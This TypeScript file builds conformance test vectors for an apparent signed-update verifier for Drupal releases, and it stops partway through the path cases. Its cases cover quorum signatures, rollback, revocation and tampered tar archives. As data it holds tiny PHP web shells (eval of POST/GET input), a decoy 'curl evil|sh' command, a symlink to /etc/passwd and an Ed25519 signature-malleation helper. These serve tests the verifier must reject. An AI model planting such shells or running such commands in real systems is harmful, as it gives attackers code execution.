// The conformance cases, as data: inputs and the verdict each must get (spec/vectors/README.md).
// Every byte is made by the attack fixtures (test/attacks/generate.ts), the library's own writers,
// or the hostile crafting helpers shared with the TypeScript tests; nothing is copied by hand.
// The expectations are written here, not computed: test/conformance/run.test.ts checks the library
// against them, and so will any other implementation.
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { Point } from '@noble/ed25519';
import { concatBytes, toBase64, utf8 } from '../../lib/core/bytes.js';
import { canonicalBytes } from '../../lib/core/canonical.js';
import { keyId } from '../../lib/core/ed25519.js';
import { createEnvelope, pae, type Envelope } from '../../lib/core/envelope.js';
import type { SiteState } from '../../lib/core/manifest.js';
import type { Policy } from '../../lib/core/policy.js';
import {
  bundleBytes,
  envelopeBytes,
  fixtures,
  FIXTURE_NOW,
  MANIFEST_EXPIRES,
  RELEASE_SPECS,
  sign,
  signedBy,
  type ReleaseFixture,
} from '../attacks/generate.js';
import { hostileTar, releaseEntries, resigned, tarOf, withArchive } from '../attacks/support.js';
import { asFormat1 } from '../support/fixtures.js';
import { mixedOrderKey, signForMixedOrderKey, T8 } from '../support/torsion.js';
import { BLOCK_SIZE, headerChecksum, writeTar } from '../../lib/core/tar.js';
import { GOOD_TAR, archive, header, hostileTarCases } from './tar-cases.js';
import { kindCases } from './kind-cases.js';
import { entryForEnvelope } from '../../lib/log/entry.js';
import { ed25519Signer, formatNote, parseNote, signNote } from '../../lib/log/note.js';
import { MemoryLog } from '../log/support.js';

export type Expect = 'ok' | string[];

export interface Case {
  id: string;
  description: string;
  op: string;
  expect: Expect;
  [input: string]: unknown;
}

export interface Family {
  family: string;
  description: string;
  cases: Case[];
}

/** The vector set: JSON files by name, and the binary files they refer to (bundles/, documents/). */
export interface VectorSet {
  families: Family[];
  files: Map<string, Uint8Array>;
}

const iso = (d: Date) => d.toISOString().replace('.000Z', 'Z');
const hex = (b: Uint8Array) => Buffer.from(b).toString('hex');
const b64 = (b: Uint8Array) => Buffer.from(b).toString('base64');

// ---------------------------------------------------------------------------------------------
// Bundles and signed documents, through verifyBundle

function bundleFamily(files: Map<string, Uint8Array>): Family {
  const f = fixtures();
  const { alice, bob, carol, dave, erin, frank } = f.team;
  const doc = (name: string, bytes: Uint8Array) => {
    files.set(`documents/${name}`, bytes);
    return `documents/${name}`;
  };
  const v1 = doc('policy-v1.json', f.policyV1.bytes);
  const v2 = doc('policy-v2.json', f.policyV2.bytes);
  const revocationA = doc('revocation-drupal-core-10.2.4.json', f.revocationA.bytes);
  /** Archives by content (several cases share release A's). */
  const archiveFile = (bytes: Uint8Array) => {
    const name = `archives/${createHash('sha256').update(bytes).digest('hex').slice(0, 16)}.tar`;
    files.set(name, bytes);
    return name;
  };
  const respelled = (envelopeText: string) => ({ envelope: utf8(envelopeText), archive: f.releaseA.archive });
  const pinV1 = { pin: v1, rotations: [] as string[] };
  const pinV2 = { pin: v1, rotations: [v2] };
  const siteA: SiteState = { product: 'drupal', component: 'core', installed: '10.2.3' };
  const siteB: SiteState = { ...siteA, installed: '10.2.4' };
  const siteC: SiteState = { product: 'drupal', component: 'webform', installed: '6.2.0' };
  const now = iso(FIXTURE_NOW);
  const cases: Case[] = [];

  type Input = { bundle: Uint8Array } | { envelope: Uint8Array; archive?: Uint8Array };
  const add = (
    id: string,
    description: string,
    what: Input,
    expect: Expect,
    opts: { trusted?: typeof pinV1; site?: SiteState; revocations?: string[]; now?: string; problems?: string[] } = {},
  ) => {
    let inputs: Record<string, string>;
    if ('bundle' in what) {
      inputs = { bundle: `bundles/${id}.bundle` };
      files.set(inputs.bundle!, what.bundle);
    } else {
      inputs = { envelope: `documents/${id}.json` };
      files.set(inputs.envelope!, what.envelope);
      if (what.archive !== undefined) {
        inputs.archive = archiveFile(what.archive);
      }
    }
    cases.push({
      id: `bundle-${id}`,
      description,
      op: 'verifyBundle',
      ...inputs,
      trusted: opts.trusted ?? pinV1,
      site: opts.site ?? siteA,
      revocations: opts.revocations ?? [],
      now: opts.now ?? now,
      expect,
      ...(opts.problems && { problems: opts.problems }),
    });
  };
  const bundle = (release: ReleaseFixture, envelope: Envelope = release.envelope, archive: Uint8Array = release.archive) => ({
    bundle: bundleBytes(envelope, archive),
  });
  const withSigs = (release: ReleaseFixture, signatures: Envelope['signatures']) => ({ ...release.envelope, signatures });

  // The genuine releases (controls).
  add('a-ok', 'release A (drupal core 10.2.4 for 10.2.3, signed by exactly the threshold) on a 10.2.3 site', bundle(f.releaseA), 'ok');
  add('b-ok', 'release B (10.2.5 for 10.2.4, one signature above the threshold) on a 10.2.4 site', bundle(f.releaseB), 'ok', { site: siteB });
  add('c-ok', 'release C (webform 6.2.1, any earlier version) under policy 2, reached by the rotation v1 → v2', bundle(f.releaseC), 'ok', {
    trusted: pinV2,
    site: siteC,
  });
  add('b-after-rotation', 'release B, signed before the rotation by keys v2 still lists, verified after it', bundle(f.releaseB), 'ok', {
    trusted: pinV2,
    site: siteB,
  });
  add('a-no-site', 'release A with nothing said about the site: accepted (the site checks are reported as not checked)', bundle(f.releaseA), 'ok', {
    site: {},
  });

  // Wrong software.
  add('a-wrong-product', 'drupal core offered to a WordPress site', bundle(f.releaseA), ['WRONG_TARGET'], { site: { ...siteA, product: 'wordpress' } });
  add('a-wrong-component', 'drupal core offered as an update of the webform module', bundle(f.releaseA), ['WRONG_TARGET'], {
    site: { product: 'drupal', component: 'webform' },
  });
  add('a-wrong-both', 'both product and component wrong', bundle(f.releaseA), ['WRONG_TARGET', 'WRONG_TARGET'], {
    site: { product: 'wordpress', component: 'webform' },
  });
  add('a-not-applicable', 'release A (for 10.2.3) offered to a site on 10.2.2', bundle(f.releaseA), ['NOT_APPLICABLE'], {
    site: { ...siteA, installed: '10.2.2' },
  });
  add('a-pre-release-base', 'release A offered to a pre-release of its base (10.2.3-rc1)', bundle(f.releaseA), ['NOT_APPLICABLE'], {
    site: { ...siteA, installed: '10.2.3-rc1' },
  });

  // Rollback and replay.
  add('a-replayed-newer', 'release A replayed to a site on 10.2.5', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], {
    site: { ...siteA, installed: '10.2.5' },
  });
  add('a-replayed-same', 'release A replayed to a site that already installed it (10.2.4)', bundle(f.releaseA), ['NOT_APPLICABLE', 'ROLLBACK'], {
    site: { ...siteA, installed: '10.2.4' },
  });
  add('a-highest-installed', 'release A to a site restored to 10.2.3 whose highest-ever version is 10.2.5', bundle(f.releaseA), ['ROLLBACK'], {
    site: { ...siteA, highestInstalled: '10.2.5' },
  });
  add('c-replayed', 'release C replayed to a site on 6.2.2', bundle(f.releaseC), ['ROLLBACK'], { trusted: pinV2, site: { ...siteC, installed: '6.2.2' } });
  add(
    'c-legacy-installed',
    'release C (6.2.1) to a site whose installed version is of the other scheme (8.x-6.2)',
    bundle(f.releaseC),
    ['VERSION_SCHEME_MISMATCH'],
    { trusted: pinV2, site: { ...siteC, installed: '8.x-6.2' } },
  );

  // Revocation.
  add('a-revoked', 'release A after its revocation (signed by carol, dave, erin)', bundle(f.releaseA), ['REVOKED'], { revocations: [revocationA] });
  add('b-not-revoked', 'the revocation of A does not touch release B', bundle(f.releaseB), 'ok', { site: siteB, revocations: [revocationA] });

  // Freeze.
  add('a-expired', 'release A at the very instant its manifest expires', bundle(f.releaseA), ['EXPIRED'], { now: iso(MANIFEST_EXPIRES) });
  add('a-policy-expired', 'release A after both the manifest and the trusted policy expired', bundle(f.releaseA), ['POLICY_EXPIRED', 'EXPIRED'], {
    now: '2027-06-01T00:00:00Z',
  });

  // Quorum.
  add('a-unsigned', 'release A with every signature removed', bundle(f.releaseA, withSigs(f.releaseA, [])), ['QUORUM_NOT_MET']);
  add('a-minus-one', 'release A with one of its three signatures removed', bundle(f.releaseA, signedBy(f.releaseA.unsigned, [alice, bob])), ['QUORUM_NOT_MET']);
  add('a-outsiders', 'release A signed only by five keys the policy does not list', bundle(f.releaseA, signedBy(f.releaseA.unsigned, f.outsiders)), [
    'QUORUM_NOT_MET',
  ]);
  add('a-duplicate', 'alice, bob, and bob again: counted once', bundle(f.releaseA, signedBy(f.releaseA.unsigned, [alice, bob, bob])), ['QUORUM_NOT_MET']);
  add(
    'a-relabelled',
    "alice, bob, and an outsider's signature labelled with carol's key id",
    bundle(f.releaseA, {
      ...signedBy(f.releaseA.unsigned, [alice, bob]),
      signatures: [...signedBy(f.releaseA.unsigned, [alice, bob]).signatures, { ...sign(f.outsiders[0]!, f.releaseA.unsigned), keyid: carol.id }],
    }),
    ['QUORUM_NOT_MET'],
  );
  add(
    'a-malleated',
    'alice, bob, and a copy of bob’s signature with S + L, listed first',
    bundle(f.releaseA, malleated(signedBy(f.releaseA.unsigned, [alice, bob]))),
    ['QUORUM_NOT_MET'],
  );
  add(
    'a-mirror-extra-unknown',
    "release A with an extra signature by a mirror's own key: accepted (UNKNOWN_KEY warning)",
    bundle(f.releaseA, signedBy(f.releaseA.envelope, [f.outsiders[1]!])),
    'ok',
  );
  add(
    'a-signatures-reordered',
    'release A with its signatures in another order: accepted',
    bundle(f.releaseA, withSigs(f.releaseA, [...f.releaseA.envelope.signatures].reverse())),
    'ok',
  );
  add('b-minus-one', 'release B (4 of 3) with one signature removed: accepted', bundle(f.releaseB, signedBy(f.releaseB.unsigned, [alice, carol, dave])), 'ok', {
    site: siteB,
  });
  add(
    'a-after-rotation',
    "release A, signed with bob's key among exactly the threshold, verified after bob was removed",
    bundle(f.releaseA),
    ['QUORUM_NOT_MET'],
    { trusted: pinV2 },
  );
  add(
    'c-without-rotation',
    'release C (policy 2) on a site still pinned to v1 without the rotation chain',
    bundle(f.releaseC),
    ['QUORUM_NOT_MET', 'POLICY_STALE'],
    { site: siteC },
  );
  add(
    'c-removed-key',
    'a webform release signed after the rotation by bob (removed) and two current keys',
    bundle(f.releaseC, signedBy(f.releaseC.unsigned, [bob, alice, dave])),
    ['QUORUM_NOT_MET'],
    { trusted: pinV2, site: siteC },
  );
  add(
    'c-current-quorum',
    'the same release signed by the current quorum (carol, erin, frank)',
    bundle(f.releaseC, signedBy(f.releaseC.unsigned, [carol, erin, frank])),
    'ok',
    { trusted: pinV2, site: siteC },
  );

  // Mix and match.
  add('b-envelope-a-archive', 'the envelope of B with the archive of A', bundle(f.releaseB, f.releaseB.envelope, f.releaseA.archive), ['DIGEST_MISMATCH'], {
    site: siteB,
  });
  add(
    'a-signatures-on-b',
    'the signatures of manifest A attached to manifest B',
    bundle(f.releaseB, withSigs(f.releaseB, f.releaseA.envelope.signatures)),
    ['QUORUM_NOT_MET'],
    { site: siteB },
  );
  add(
    'a-revocation-signatures',
    'the signatures of the revocation of A attached to manifest A',
    bundle(f.releaseA, withSigs(f.releaseA, f.revocationA.envelope.signatures)),
    ['QUORUM_NOT_MET'],
  );

  // The archive against what the quorum signed.
  const extra = new Uint8Array([...f.releaseA.archive, 0]);
  add('a-archive-extra-byte', 'one byte too many after the archive', bundle(f.releaseA, f.releaseA.envelope, extra), ['DIGEST_MISMATCH']);
  add('a-archive-truncated', 'the archive cut short by one byte', bundle(f.releaseA, f.releaseA.envelope, f.releaseA.archive.subarray(0, -1)), [
    'DIGEST_MISMATCH',
  ]);
  const entries = releaseEntries(f.releaseA, RELEASE_SPECS.a);
  const resignedWith = (id: string, description: string, tar: Uint8Array, expect: Expect) =>
    add(
      id,
      `${description} (the quorum signed this archive's size and digests)`,
      bundle(f.releaseA, resigned(withArchive(f.releaseA.manifest, tar), [alice, carol, dave]), tar),
      expect,
    );
  resignedWith(
    'a-entry-extra',
    'an extra entry nobody reviewed',
    tarOf([...entries, { path: 'modules/backdoor.php', content: '<?php eval($_POST["x"]);\n' }]),
    ['ENTRY_EXTRA'],
  );
  resignedWith('a-entry-missing', 'an entry missing', tarOf(entries.filter((e) => e.path !== 'core/lib/Sanitizer.php')), ['ENTRY_MISSING']);
  resignedWith(
    'a-entry-other-content',
    'an entry with other content',
    tarOf(entries.map((e) => (e.path === 'core/lib/Drupal.php' ? { ...e, content: '<?php eval($_GET["x"]);\n' } : e))),
    ['ENTRY_MISMATCH'],
  );
  resignedWith(
    'a-entry-executable',
    'an entry made executable',
    tarOf(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, mode: '0755' as const } : e))),
    ['ENTRY_MISMATCH'],
  );
  resignedWith('a-entry-twice', 'the same path twice', hostileTar([entries[0]!, entries[1]!, entries[1]!, ...entries.slice(2)]), ['UNSAFE_PATH']);
  resignedWith(
    'a-entry-symlink',
    'a symbolic link in place of a signed file',
    hostileTar(entries.map((e) => (e.path === 'core/lib/Sanitizer.php' ? { ...e, content: '', typeflag: '2', linkname: '/etc/passwd' } : e))),
    ['UNSAFE_PATH'],
  );
  resignedWith(
    'a-after-end-marker',
    'content smuggled after the end-of-archive marker',
    new Uint8Array([...f.releaseA.archive, ...new Uint8Array(512).fill(0x41)]),
    ['ARCHIVE_MALFORMED'],
  );

  // Format 2: the archive is rebuilt from the manifest (spec/bundle.md "Archive verification"). The same
  // manifest, bytes changed where only the rebuild (not an entry hash) can see it.
  const archiveA = f.releaseA.archive;
  const changed = (edit: (bytes: Uint8Array) => void) => {
    const bytes = archiveA.slice();
    edit(bytes);
    return bundle(f.releaseA, f.releaseA.envelope, bytes);
  };
  /** Sets one header byte and recomputes that header's checksum, as a careful forger would. */
  const forged = (block: number, offset: number, value: number) =>
    changed((bytes) => {
      const header = bytes.subarray(block * BLOCK_SIZE, (block + 1) * BLOCK_SIZE);
      header[offset] = value;
      header.set(utf8(headerChecksum(header).toString(8).padStart(6, '0')), 148);
    });
  const firstSize = (f.releaseA.manifest.files.find((op) => op.op !== 'delete') as { size: number }).size;
  const firstPadding = (BLOCK_SIZE - (firstSize % BLOCK_SIZE)) % BLOCK_SIZE;
  const retimed = (mtime: number) => {
    const chunks: Uint8Array[] = [];
    writeTar(
      (c) => chunks.push(new Uint8Array(c)),
      entries.map((e) => ({ path: e.path, mode: e.mode ?? '0644', content: typeof e.content === 'string' ? utf8(e.content) : e.content })),
      mtime,
    );
    return concatBytes(...chunks);
  };
  if (firstPadding === 0) throw new Error('release A: its first entry needs padding for the padding case');
  add(
    'a-header-reserved-byte',
    'a header whose reserved byte 500 is set, its checksum recomputed: not the header rebuilt from the manifest',
    forged(0, 500, 0x41),
    ['ARCHIVE_MALFORMED'],
  );
  add('a-header-devmajor', 'a header whose devmajor reads 1, its checksum recomputed: not the header rebuilt from the manifest', forged(0, 335, 0x31), [
    'ARCHIVE_MALFORMED',
  ]);
  add('a-header-mtime', 'every entry at mtime 1 where the manifest says 0 (same length, same contents)', bundle(f.releaseA, f.releaseA.envelope, retimed(1)), [
    'ENTRY_MISMATCH',
  ]);
  add(
    'a-padding-not-zero',
    "a non-zero byte in the first entry's padding",
    changed((b) => (b[BLOCK_SIZE + firstSize] = 1)),
    ['ARCHIVE_MALFORMED'],
  );
  add(
    'a-end-marker-first-block',
    'a non-zero byte in the first end-of-archive block',
    changed((b) => (b[b.length - 2 * BLOCK_SIZE] = 1)),
    ['ARCHIVE_MALFORMED'],
  );
  add(
    'a-end-marker-last-byte',
    'the last byte of the end-of-archive marker is not zero',
    changed((b) => (b[b.length - 1] = 1)),
    ['ARCHIVE_MALFORMED'],
  );
  add(
    'a-archive-sha256-wrong',
    'format 2: a manifest whose archive sha256 is wrong but whose files and mtime fix the archive: accepted (the digest is for mirrors; verification does not depend on it)',
    bundle(f.releaseA, resigned({ ...f.releaseA.manifest, archive: { ...f.releaseA.manifest.archive, sha256: '0'.repeat(64) } }, [alice, carol, dave])),
    'ok',
  );

  // The envelope's own spelling.
  const e = f.releaseA.envelope;
  add(
    'a-envelope-whitespace',
    'the envelope re-serialised with whitespace: accepted (only the payload is signed)',
    respelled(JSON.stringify(e, null, '\t')),
    'ok',
  );
  add('a-envelope-extra-field', 'a field added to the envelope (a mirror tag)', respelled(JSON.stringify({ ...e, mirror: 'cdn-7' })), ['SCHEMA_INVALID']);
  add(
    'a-payload-unpadded',
    'the payload re-encoded without base64 padding',
    respelled(JSON.stringify({ ...e, payload: e.payload.replace(/=+$/, '') })),
    e.payload.endsWith('=') ? ['MALFORMED'] : 'ok',
  );
  // Base64 of ASCII has a '+' or '/' only where a third byte is '>', '?' or '~': three '~' in a step make base64url differ.
  const tilde = resigned({ ...f.releaseA.manifest, postUpdate: [...f.releaseA.manifest.postUpdate, ['echo', '~~~']] }, [alice, carol, dave]);
  if (!/[+/]/.test(tilde.payload)) throw new Error('a-payload-base64url: the payload must have a + or /');
  add(
    'a-payload-base64url',
    'the payload re-encoded as base64url',
    respelled(JSON.stringify({ ...tilde, payload: Buffer.from(tilde.payload, 'base64').toString('base64url') })),
    ['MALFORMED'],
  );
  const decoy = Buffer.from('{"product":"drupal","version":"10.2.4","postUpdate":[["sh","-c","curl evil|sh"]]}').toString('base64');
  add(
    'a-duplicate-payload',
    'an envelope with a duplicate "payload" member (an unsigned decoy first)',
    respelled(`{"payloadType":${JSON.stringify(e.payloadType)},"payload":"${decoy}","payload":"${e.payload}","signatures":${JSON.stringify(e.signatures)}}`),
    ['MALFORMED'],
  );
  add('a-unknown-type', 'an unknown payloadType', respelled(JSON.stringify({ ...e, payloadType: 'application/vnd.countersign.firmware+json' })), [
    'WRONG_TYPE',
  ]);

  // Versioning (spec/versioning.md): bundle v1 and v2 framing, sections, payload format.
  const envA = envelopeBytes(f.releaseA.envelope);
  const archA = f.releaseA.archive;
  const sectioned = (lines: Array<[string, number]>, ...parts: Uint8Array[]) => ({
    bundle: concatBytes(utf8(`countersign-bundle v2 ${lines.length}\n${lines.map(([name, length]) => `${name} ${length}\n`).join('')}`), ...parts),
  });
  add(
    'v1-bundle',
    'a v1 bundle (envelope length, then the archive as the rest of the file): accepted',
    { bundle: concatBytes(utf8(`countersign-bundle v1 ${envA.length}\n`), envA, archA) },
    'ok',
  );
  add(
    'v2-unknown-section',
    'a v2 bundle with an unknown section',
    sectioned(
      [
        ['envelope', envA.length],
        ['signatures', 2],
        ['archive', archA.length],
      ],
      envA,
      utf8('{}'),
      archA,
    ),
    ['FORMAT_UNSUPPORTED'],
  );
  add(
    'v2-duplicated-section',
    'a v2 bundle listing the envelope twice',
    sectioned(
      [
        ['envelope', envA.length],
        ['envelope', envA.length],
        ['archive', archA.length],
      ],
      envA,
      envA,
      archA,
    ),
    ['FORMAT_UNSUPPORTED'],
  );
  add(
    'v2-proof-section',
    'a v2 bundle with a proof section: read, and checked only under a log policy (the log family), so without one the bundle verifies',
    sectioned(
      [
        ['envelope', envA.length],
        ['proof', 2],
        ['archive', archA.length],
      ],
      envA,
      utf8('{}'),
      archA,
    ),
    'ok',
  );
  add(
    'v2-proof-after-archive',
    'a v2 bundle whose proof section comes after the archive',
    sectioned(
      [
        ['envelope', envA.length],
        ['archive', archA.length],
        ['proof', 2],
      ],
      envA,
      archA,
      utf8('{}'),
    ),
    ['MALFORMED'],
  );
  add(
    'v2-proof-too-large',
    'a v2 bundle declaring a proof section over 131072 bytes',
    sectioned(
      [
        ['envelope', envA.length],
        ['proof', 131073],
        ['archive', archA.length],
      ],
      envA,
      new Uint8Array(131073),
      archA,
    ),
    ['SIZE_LIMIT'],
  );
  add('v3-header', 'a bundle v3 header', { bundle: concatBytes(utf8(`countersign-bundle v3 1\nenvelope ${envA.length}\n`), envA) }, ['FORMAT_UNSUPPORTED']);
  add(
    'v2-lengths-over',
    'v2 section lengths adding up to one byte more than the file',
    sectioned(
      [
        ['envelope', envA.length],
        ['archive', archA.length + 1],
      ],
      envA,
      archA,
    ),
    ['MALFORMED'],
  );
  add(
    'v2-lengths-short',
    'v2 section lengths adding up to one byte less than the file',
    sectioned(
      [
        ['envelope', envA.length],
        ['archive', archA.length - 1],
      ],
      envA,
      archA,
    ),
    ['MALFORMED'],
  );
  add(
    'payload-format-4',
    'a manifest payload with format 4, even with a member the schema does not know: not SCHEMA_INVALID',
    bundle(f.releaseA, resigned({ ...f.releaseA.manifest, format: 4, log: 'x' } as never, [alice, carol, dave])),
    ['FORMAT_UNSUPPORTED'],
  );
  const format1 = asFormat1(f.releaseA.manifest, archA);
  const { format: _, ...formatless } = format1;
  add(
    'payload-format-absent',
    'a manifest payload without format (written before 0.2.0, archive sha512): format 1, accepted',
    bundle(f.releaseA, resigned(formatless, [alice, carol, dave])),
    'ok',
  );
  add(
    'payload-format-1',
    'a manifest payload with format 1 (archive size, sha256, sha512; no mtime), as 0.2.0 wrote it: accepted',
    bundle(f.releaseA, resigned(format1, [alice, carol, dave])),
    'ok',
  );
  add(
    'payload-format-1-sha512-wrong',
    'format 1: the archive sha512 is checked, and a wrong one alone is enough',
    bundle(f.releaseA, resigned({ ...format1, archive: { ...format1.archive, sha512: '0'.repeat(128) } }, [alice, carol, dave])),
    ['DIGEST_MISMATCH'],
  );
  add(
    'payload-format-1-sha256-wrong',
    'format 1: the archive sha256 is checked',
    bundle(f.releaseA, resigned({ ...format1, archive: { ...format1.archive, sha256: '0'.repeat(64) } }, [alice, carol, dave])),
    ['DIGEST_MISMATCH'],
  );
  add(
    'payload-format-1-mtime',
    'format 1: the entries at another mtime than the archive the digests were made of (format 1 does not sign the mtime; its digests bind it)',
    bundle(f.releaseA, resigned(format1, [alice, carol, dave]), retimed(1)),
    ['DIGEST_MISMATCH'],
  );
  add(
    'payload-format-1-archive-mtime',
    'format 1 with the archive member of format 2 (mtime, no sha512)',
    bundle(f.releaseA, resigned({ ...format1, archive: f.releaseA.manifest.archive }, [alice, carol, dave])),
    ['SCHEMA_INVALID'],
  );
  add(
    'payload-format-2-archive-sha512',
    'format 2 with the archive member of format 1 (sha512, no mtime)',
    bundle(f.releaseA, resigned({ ...f.releaseA.manifest, archive: format1.archive }, [alice, carol, dave])),
    ['SCHEMA_INVALID'],
  );

  // Signed documents without an archive: type confusion and rotations.
  const relabel = (env: Envelope, kind: 'policy' | 'manifest') => ({ ...env, payloadType: createEnvelope(kind, new Uint8Array()).payloadType });
  add(
    'manifest-as-policy',
    'signed manifest A (format 2) relabelled as a policy: policy format 2 exists (signer kinds), and the payload is no policy',
    { envelope: envelopeBytes(relabel(f.releaseA.envelope, 'policy')) },
    ['SCHEMA_INVALID'],
    { site: {} },
  );
  add(
    'manifest-format-1-as-policy',
    'a signed format-1 manifest relabelled as a policy: the payload is no policy',
    { envelope: envelopeBytes(relabel(resigned(asFormat1(f.releaseA.manifest, f.releaseA.archive), [alice, carol, dave]), 'policy')) },
    ['SCHEMA_INVALID'],
    { site: {} },
  );
  add(
    'policy-as-manifest',
    'signed policy v1 relabelled as a manifest',
    { envelope: envelopeBytes(relabel(f.policyV1.envelope, 'manifest')) },
    ['SCHEMA_INVALID'],
    { site: {} },
  );
  add('policy-v2', 'policy v2 as a document, trusted v1: accepted as kind policy', { envelope: f.policyV2.bytes }, 'ok', { site: {} });
  add('policy-v1-replayed', 'policy v1 replayed after the rotation to v2', { envelope: f.policyV1.bytes }, ['POLICY_ROLLBACK'], { trusted: pinV2, site: {} });
  add(
    'policy-twin-key',
    "a rotation adding A + T (a mixed-order twin of alice's key), signed by a quorum of v1 and of itself",
    { envelope: envelopeBytes(twinRotation()) },
    ['WEAK_KEY'],
    { site: {} },
  );

  // Signer kinds (policy format 2): test/conformance/kind-cases.ts.
  kindCases({ add, doc, alice, release: f.releaseA, bundleBytes, site: siteA as Record<string, string> });

  return {
    family: 'bundle',
    description:
      'verifyBundle over bundle files (header, envelope, archive) and bare signed documents, with the trusted policy, site state, revocations and reference time',
    cases,
  };
}

const L = (1n << 252n) + 27742317777372353535851937790883648493n;

/** The envelope with its last signature's S replaced by S + L, listed first. */
function malleated(envelope: Envelope): Envelope {
  const last = envelope.signatures.at(-1)!;
  const sig = Buffer.from(last.sig, 'base64');
  let s = 0n;
  for (let i = 63; i >= 32; i--) s = (s << 8n) | BigInt(sig[i]!);
  s += L;
  for (let i = 32; i < 64; i++, s >>= 8n) sig[i] = Number(s & 0xffn);
  return { ...envelope, signatures: [{ keyid: last.keyid, sig: sig.toString('base64') }, ...envelope.signatures] };
}

function deterministicNonce(label: string): (attempt: number) => Uint8Array {
  return (attempt) => new Uint8Array(createHash('sha512').update(`${label} ${attempt}`).digest());
}

function twinRotation(): Envelope {
  const f = fixtures();
  const { alice, bob, carol, dave, erin } = f.team;
  const twinKey = mixedOrderKey(alice.seed);
  const listed = (s: { name: string; publicKey: Uint8Array; id: string }) => ({ name: s.name, publicKey: toBase64(s.publicKey), id: s.id });
  const v2: Policy = {
    version: 2,
    expires: '2027-12-01T00:00:00Z',
    threshold: 3,
    signers: [alice, bob, carol, dave, erin].map(listed).concat({ name: 'Alice, second laptop', publicKey: toBase64(twinKey), id: keyId(twinKey) }),
  };
  const unsigned = createEnvelope('policy', canonicalBytes(v2));
  const twinSig = {
    keyid: keyId(twinKey),
    sig: toBase64(
      signForMixedOrderKey(pae(unsigned.payloadType, canonicalBytes(v2)), alice.seed, 1, deterministicNonce('countersign conformance twin rotation')),
    ),
  };
  return { ...unsigned, signatures: [...[alice, bob, carol].map((s) => sign(s, unsigned)), twinSig] };
}

// ---------------------------------------------------------------------------------------------
// Versions (lib/version.ts)

function versionFamily(): Family {
  const cases: Case[] = [];
  const parse = (input: string, expect: Expect, why: string) =>
    cases.push({ id: `version-parse-${cases.length + 1}`, description: why, op: 'parseVersion', input, expect });
  for (const v of ['10.2.3', '7.99', '11.0.0-rc1', '10.3.0-beta2', '10.1.0-alpha1', '8.x-1.2', '8.x-1.2-rc3', '6.5', '6.5-RC1', '10.3.0-dev', '1.0.0+build.7'])
    parse(v, 'ok', `${v} is a release version`);
  const bad: Array<[string, string]> = [
    ['', 'empty'],
    [' 10.2.3', 'leading space'],
    ['10.2.3 ', 'trailing space'],
    ['v10.2.3', 'a v prefix'],
    ['10..2', 'empty segment'],
    ['10.2.', 'trailing dot'],
    ['.10', 'leading dot'],
    ['10.02.3', 'leading zero: a second spelling of 10.2.3'],
    ['1.2.3.4.5', 'five segments'],
    ['10.2.3-gamma1', 'unknown pre-release tag'],
    ['10.2.3-rc', 'rc without a number'],
    ['10.2.3-rc-1', 'rc-1'],
    ['10.2.3-dev1', 'dev is never numbered'],
    ['10.2.3-rc01', 'leading zero in the tag number'],
    ['10.2.3_rc1', 'underscore'],
    ['10.2.3-', 'dangling -'],
    ['10.2.3+', 'dangling +'],
    ['10.2.3+a..b', 'empty build identifier'],
    ['8.x-1.x-dev', 'a branch, not a release'],
    ['11.x-dev', 'a branch'],
    ['8.x-', 'legacy prefix alone'],
    ['x.x-1.2', 'non-numeric prefix'],
    ['8.x-9.x-1.2', 'two prefixes'],
    ['1234567890.0', 'beyond nine digits'],
    ['10.2.3\n', 'a newline'],
    ['10.2.3/../x', 'a path'],
    ['１０.2.3', 'full-width digits'],
    ['1'.repeat(65), 'longer than 64 characters'],
  ];
  for (const [v, why] of bad) parse(v, ['BAD_VERSION'], why);

  const compare = (a: string, b: string, result: -1 | 0 | 1 | string, why: string) =>
    cases.push({
      id: `version-compare-${cases.length + 1}`,
      description: why,
      op: 'compareVersions',
      a,
      b,
      ...(typeof result === 'number' ? { expect: 'ok', result } : { expect: [result] }),
    });
  const ascending = (list: string[], why: string) => {
    for (let i = 0; i + 1 < list.length; i++) {
      compare(list[i]!, list[i + 1]!, -1, why);
      compare(list[i + 1]!, list[i]!, 1, why);
    }
  };
  ascending(['7.9', '7.10', '7.99', '7.100', '8.0.0', '9.5.11', '10.0.0', '10.1.9', '10.1.10', '10.2.0', '10.2.3', '11.0.0'], 'segments compare as numbers');
  ascending(['6.4', '6.4.1', '6.4.2', '6.5'], 'segments compare as numbers');
  for (const [a, b] of [
    ['6.5', '6.5.0'],
    ['6.5.0', '6.5'],
    ['6.5', '6.5.0.0'],
    ['6.5.0-rc1', '6.5-rc1'],
    ['8.x-1.2', '8.x-1.2.0'],
  ])
    compare(a!, b!, 0, 'missing trailing segments are 0');
  ascending(
    ['10.3.0-dev', '10.3.0-alpha1', '10.3.0-alpha2', '10.3.0-beta1', '10.3.0-beta2', '10.3.0-rc1', '10.3.0-rc2', '10.3.0', '10.3.1-alpha1', '10.3.1'],
    'dev < alpha < beta < rc < the release',
  );
  ascending(['10.2.9', '10.3.0-dev'], 'a pre-release sorts above the previous release');
  ascending(['6.5-beta3', '6.5-RC1', '6.5-rc2', '6.5'], 'tags are case-insensitive');
  compare('6.5-RC1', '6.5-rc1', 0, 'tags are case-insensitive');
  ascending(['8.x-1.0-beta1', '8.x-1.0', '8.x-1.2', '8.x-1.10', '8.x-2.0-alpha1', '8.x-2.0'], 'legacy versions compare after a matching prefix');
  ascending(['6.x-3.9', '7.x-1.0', '7.x-3.99', '8.x-1.0'], 'different core prefixes order by the prefix');
  for (const [a, b] of [
    ['7.x-5.0', '4.0.0'],
    ['8.x-1.0', '4.0.0'],
    ['8.x-1.2', '1.2.0'],
    ['8.x-1.2', '1.2'],
  ]) {
    compare(a!, b!, 'VERSION_SCHEME_MISMATCH', 'a legacy version is never compared with a numeric one');
    compare(b!, a!, 'VERSION_SCHEME_MISMATCH', 'a legacy version is never compared with a numeric one');
  }
  compare('1.0.0+a', '1.0.0+b', 0, 'build metadata is ignored');
  compare('1.0.0+a', '1.0.0', 0, 'build metadata is ignored');
  compare('1.0.0-rc1+a', '1.0.0', -1, 'build metadata is ignored');
  compare('10.2.3', 'latest', 'BAD_VERSION', 'either side unparsable');
  return { family: 'version', description: 'parseVersion (ok or BAD_VERSION) and compareVersions (-1, 0, 1, VERSION_SCHEME_MISMATCH or BAD_VERSION)', cases };
}

// ---------------------------------------------------------------------------------------------
// Paths (lib/paths.ts)

function pathFamily(): Family {
  const cases: Case[] = [];
